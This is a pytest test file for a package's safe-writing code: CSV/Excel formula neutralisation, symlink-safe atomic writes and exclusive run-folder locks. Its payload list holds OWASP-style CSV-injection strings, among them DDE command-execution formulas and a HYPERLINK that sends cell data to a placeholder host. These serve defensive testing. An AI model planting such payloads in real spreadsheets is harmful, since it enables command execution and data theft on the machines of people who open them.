"""Safe writing: formula neutralisation, atomic files, exclusive run folders.

The neutralisation rule is the one of the OWASP "CSV Injection" page: a cell starting
with =, +, -, @, tab or carriage return is prefixed with a single quote.
"""

import errno
import json
import os
import subprocess
import sys
import textwrap
from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from optimag import files
from optimag.errors import RunFolderError

ROOT = Path(__file__).resolve().parents[1]

#: Payloads from the OWASP CSV-injection page and the reported cases.
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_neutralised_and_restored(payload):
    safe = files.neutralise_text(payload)
    assert safe == "'" + payload  # OWASP: prepend a single quote
    assert files.restore_text(safe) == payload


@pytest.mark.parametrize("text", ["E-shape-10", "fer-lowf", "awg-22", "litz-60x38", "", "a=b"])
def test_ordinary_text_is_untouched(text):
    assert files.neutralise_text(text) == text
    assert files.restore_text(text) == text


def test_a_leading_quote_round_trips():
    # Without its own quote, "'=x" would read back as "=x".
    for text in ("'=x", "'plain", "''"):
        assert files.restore_text(files.neutralise_text(text)) == text


def test_numbers_are_not_text():
    assert files.neutralise_text(-2.5) == -2.5
    frame = pd.DataFrame({"id": ["=1+1", "ok"], "value": [-1.0, 2.0]})
    out = files.neutralise_frame(frame)
    assert out["id"].tolist() == ["'=1+1", "ok"] and out["value"].tolist() == [-1.0, 2.0]


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    frame = pd.DataFrame({"id": PAYLOADS, "n": range(len(PAYLOADS))})
    with files.excel_writer(tmp_path / "t.xlsx") as writer:
        frame.to_excel(writer, sheet_name="s", index=False)
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    cells = [c for row in book["s"].iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    texts = list(book["s"]["A"][1:])
    # Readable, as given (XML stores a carriage return as a line feed).
    assert [c.value for c in texts] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)


def test_neutralise_js_applies_the_same_rule(tmp_path):
    node = subprocess.run(["which", "node"], capture_output=True, text=True).stdout.strip()
    if not node:
        pytest.skip("node not installed")
    cases = [*PAYLOADS, "E-shape-10", "'=x", ""]
    script = files.NEUTRALISE_JS + f"\nconsole.log(JSON.stringify({json.dumps(cases)}" \
        ".map(neutraliseCell)));"
    out = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True)
    assert json.loads(out.stdout) == [files.neutralise_text(c) for c in cases]


# ---------------------------------------------------------------------------------------
# Atomic writes
# ---------------------------------------------------------------------------------------


def test_atomic_write_replaces_a_symlink_instead_of_following_it(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("keep")
    folder = tmp_path / "f"
    folder.mkdir()
    (folder / "x.txt").symlink_to(outside)
    files.atomic_write_text(folder / "x.txt", "new")
    assert outside.read_text() == "keep"
    assert not (folder / "x.txt").is_symlink() and (folder / "x.txt").read_text() == "new"


def test_failed_write_names_the_file_and_keeps_the_old_one(tmp_path, monkeypatch):
    target = tmp_path / "pareto.csv"
    target.write_text("old")

    def full(*_args, **_kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(files.WriteFailed) as caught:
        files.atomic_write_text(target, "new")
    assert str(target) in str(caught.value) and "No space left" in str(caught.value)
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["pareto.csv"]  # no temp file left


def test_written_files_have_ordinary_permissions(tmp_path):
    path = files.atomic_write_text(tmp_path / "a.txt", "x")
    assert path.stat().st_mode & 0o777 == files._FILE_MODE


# ---------------------------------------------------------------------------------------
# Run folders
# ---------------------------------------------------------------------------------------


def test_unique_run_dirs_in_the_same_instant(tmp_path):
    now = datetime(2026, 1, 2, 3, 4, 5, 678000)
    made = [files.unique_run_dir(tmp_path, "s", now=now) for _ in range(3)]
    assert [p.name for p in made] == ["s-20260102-030405.678", "s-20260102-030405.678-2",
                                      "s-20260102-030405.678-3"]
    assert all(p.is_dir() for p in made)


def test_non_empty_folder_is_refused_unless_overwrite(tmp_path):
    (tmp_path / "old.txt").write_text("x")
    with pytest.raises(RunFolderError, match=r"not empty.*--overwrite"):
        files.check_run_folder(tmp_path)
    files.check_run_folder(tmp_path, overwrite=True)


def test_folder_of_a_continued_run_is_accepted(tmp_path):
    (tmp_path / files.STORAGE_NAME).write_bytes(b"")
    (tmp_path / "run.json").write_text("{}")
    files.check_run_folder(tmp_path, continuing=True)
    with pytest.raises(RunFolderError):
        files.check_run_folder(tmp_path)


def test_symlinked_folder_or_content_is_refused(tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(RunFolderError, match="is a symlink"):
        files.check_run_folder(tmp_path / "link", overwrite=True)
    (real / "study.toml").symlink_to(tmp_path / "elsewhere.toml")
    with pytest.raises(RunFolderError, match="contains a symlink"):
        files.check_run_folder(real, overwrite=True)


def test_inputs_folders_are_refused(tmp_path):
    study = tmp_path / "studies" / "s.toml"
    study.parent.mkdir()
    study.write_text("")
    catalogue = tmp_path / "cat"
    catalogue.mkdir()
    for out in (study.parent, catalogue, catalogue / "sub"):
        with pytest.raises(RunFolderError, match="input of this run"):
            files.check_run_folder(out, overwrite=True, protect=(study, catalogue))
    files.check_run_folder(tmp_path / "runs" / "x", protect=(study, catalogue))


def test_second_claim_from_another_process_is_refused_at_once(tmp_path):
    folder = tmp_path / "run"
    holder = textwrap.dedent(f"""
        import sys, time
        from optimag import files
        with files.claim_run_folder({str(folder)!r}):
            print("held", flush=True)
            sys.stdin.readline()
    """)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, "-c", holder], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, text=True, env=env)
    try:
        assert proc.stdout.readline().strip() == "held"
        with pytest.raises(RunFolderError, match=f"in use by optimag process {proc.pid}"), \
                files.claim_run_folder(folder, overwrite=True):
            pass
    finally:
        proc.stdin.write("\n")
        proc.stdin.close()
        proc.wait(timeout=30)
    # Released when the holder ends: the folder can be claimed again.
    with files.claim_run_folder(folder, overwrite=True):
        assert files.held(folder)
    assert not files.held(folder)


def test_claims_in_one_process_nest(tmp_path):
    with files.claim_run_folder(tmp_path / "r"):
        (tmp_path / "r" / "x").write_text("1")
        with files.claim_run_folder(tmp_path / "r"):  # checks were made by the first
            assert files.held(tmp_path / "r")
        assert files.held(tmp_path / "r")
